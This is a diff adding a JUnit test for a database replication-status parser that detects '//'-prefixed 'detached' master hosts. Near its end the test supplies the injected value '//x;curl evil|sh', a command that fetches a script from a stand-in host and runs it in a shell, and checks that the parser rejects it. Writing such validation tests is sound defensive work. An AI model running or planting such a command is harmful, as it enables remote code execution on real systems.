@@ -197,6 +197,18 @@ class ReplicationStatusParserTest {
     }
 
     @Test
+    void aDetachedMasterHostIsReadAsDetachedFromTheRealHost() {
+        Map<String, String> m = new HashMap<>(mariadbRow());
+        m.put("Master_Host", "//" + m.get("Master_Host"));
+        var r = ReplicationStatusParser.parse(new StatusRow(m));
+        assertTrue(r.masterHostDetached());
+        assertEquals(mariadbRow().get("Master_Host"), r.masterKey().hostname());
+        assertFalse(ReplicationStatusParser.parse(new StatusRow(mariadbRow())).masterHostDetached());
+        m.put("Master_Host", "//x;curl evil|sh");
+        assertThrows(InvalidReportedHostException.class, () -> ReplicationStatusParser.parse(new StatusRow(m)));
+    }
+
+    @Test
     void replicasThatAreNotServersAreSkippedAndTheOthersKept() {
         InstanceKey reporter = new InstanceKey("db-1", 3306);
         List<StatusRow> rows = new ArrayList<>();
